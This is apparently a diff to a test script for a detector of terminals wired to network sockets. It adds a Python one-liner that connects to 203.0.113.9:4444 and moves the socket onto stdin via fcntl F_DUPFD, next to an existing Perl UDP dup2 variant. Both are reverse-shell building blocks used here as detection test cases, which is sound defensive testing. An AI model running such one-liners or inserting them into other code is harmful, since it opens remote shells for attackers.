@@ -15,6 +15,11 @@ timeout 2 python3 /usr/local/bin/back.py 203.0.113.9 4444
 kill $listener
 #: fires detect/terminal-made-by-code -- by Perl and the other protocol
 timeout 2 perl -MPOSIX -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.9:53",Proto=>"udp");POSIX::dup2(fileno($s),0)'
+#: fires -- by the call that duplicates without being called so
+python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
+sleep 0.3
+timeout 2 python3 -c 'import fcntl,os,socket; s=socket.create_connection(("203.0.113.9",4444)); os.close(0); fcntl.fcntl(s,fcntl.F_DUPFD,0)'
+kill $listener
 #: quiet
 python3 /usr/local/bin/listen.py 203.0.113.9:4444 & listener=$!
 sleep 0.3
